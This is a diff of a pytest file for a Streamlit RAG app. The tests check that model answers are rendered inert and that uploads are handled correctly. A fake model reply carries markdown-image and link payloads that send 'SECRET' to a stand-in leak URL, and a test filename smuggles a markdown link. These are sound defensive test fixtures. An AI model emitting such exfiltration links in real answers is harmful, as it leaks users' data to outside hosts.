@@ -8,15 +8,13 @@ import re
 import pytest
 from streamlit.testing.v1 import AppTest
 
-import rag.engine
-from ingest import Ingestor
 from rag.answer import Answer, SourceRef
+from rag.app import build_app
 from rag.settings import load_settings
-from tests.conftest import ROOT, FakeLLM
+from tests.conftest import FakeLLM
 from tests.test_safe_markdown import live_parts, visible_text
 from ui.transcript import conversation_markdown
 
-APP = str(ROOT / "ui" / "app.py")
 LEAK = "http://127.0.0.1:9/leak"
 HOSTILE = (
     f"Leave is 25 days [1]. ![x]({LEAK}/img?q=SECRET) [more]({LEAK}/link) <{LEAK}/auto> "
@@ -33,27 +31,31 @@ def page_home(rag_home, monkeypatch, fake_embedder, tmp_path):
     """A library of one document, and the page wired to the fake models."""
     monkeypatch.setenv("RAG_REFUSE_BELOW", "-1")
     monkeypatch.setenv("RAG_REFUSE_UNLESS_SIMILAR", "-1")
-    llm = FakeLLM(reply=HOSTILE)
-    real = rag.engine.build_engine
-    monkeypatch.setattr(
-        rag.engine, "build_engine", lambda s: real(s, embedder=fake_embedder, llm=llm)
-    )
+    app = build_app(load_settings(), embedder=fake_embedder, llm=FakeLLM(reply=HOSTILE))
     doc = tmp_path / "docs" / "[x](http:evil) leave.md"
     doc.parent.mkdir()
     doc.write_text("# Leave <b>policy</b>\n\nEmployees get 25 days of paid annual leave.\n")
-    Ingestor(load_settings(), embedder=fake_embedder).ingest([doc.parent])
-    return rag_home
+    app.ingestor().ingest([doc.parent])
+    yield app
+    app.close()
 
 
-def page() -> AppTest:
-    app = AppTest.from_file(APP, default_timeout=60)
-    app.run()
-    assert not app.exception, app.exception
-    return app
+def draw(app) -> None:
+    """The page script, run by AppTest with the test's App."""
+    from ui.page import main
+
+    main(app)
+
+
+def page(app) -> AppTest:
+    test = AppTest.from_function(draw, kwargs={"app": app}, default_timeout=60)
+    test.run()
+    assert not test.exception, test.exception
+    return test
 
 
 def test_answers_and_history_are_drawn_inert(page_home):
-    app = page()
+    app = page(page_home)
     app.chat_input[0].set_value("How many days of leave?").run()
     app.chat_input[0].set_value("And how many days of leave next year?").run()
     assert not app.exception, app.exception
@@ -67,27 +69,28 @@ def test_answers_and_history_are_drawn_inert(page_home):
 
 
 def test_uploads_from_two_sessions_with_one_name_both_stay(page_home):
-    first, second, third = page(), page(), page()
+    first, second, third = page(page_home), page(page_home), page(page_home)
     first.file_uploader[0].upload("notes.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n").run()
     second.file_uploader[0].upload("notes.md", b"# Beta\n\nParking is in garage B2.\n").run()
     third.file_uploader[0].upload("copy.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n").run()
     for app in (first, second, third):
         assert not app.exception, app.exception
-    stored = sorted((p.name, p.read_bytes()) for p in (page_home / "uploads").rglob("*.md"))
+    uploads = page_home.settings.home / "uploads"
+    stored = sorted((p.name, p.read_bytes()) for p in uploads.rglob("*.md"))
     assert stored == [
         ("notes.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n"),
         ("notes.md", b"# Beta\n\nParking is in garage B2.\n"),
     ]
-    documents = {m.label: m.value for m in page().metric}["Documents"]
+    documents = {m.label: m.value for m in page(page_home).metric}["Documents"]
     assert documents == "3"  # the first upload's chunks are still there
     notes = [unescape(c.value) for app in (second, third) for c in app.caption]
     assert any("notes.md stored as uploads/default/" in n and "earlier upload" in n for n in notes)
     assert any("copy.md is already in the library (as notes.md)" in n for n in notes)
 
 
-def test_the_uploader_states_the_limit(page_home, monkeypatch):
+def test_the_uploader_states_the_limit(page_home, monkeypatch, fake_embedder):
     monkeypatch.setenv("RAG_MAX_FILE_MB", "12.5")
-    uploader = page().file_uploader[0]
+    uploader = page(build_app(load_settings(), embedder=fake_embedder)).file_uploader[0]
     assert "up to 13 MB per file" in uploader.label
     assert uploader.proto.max_upload_size_mb == 13
 
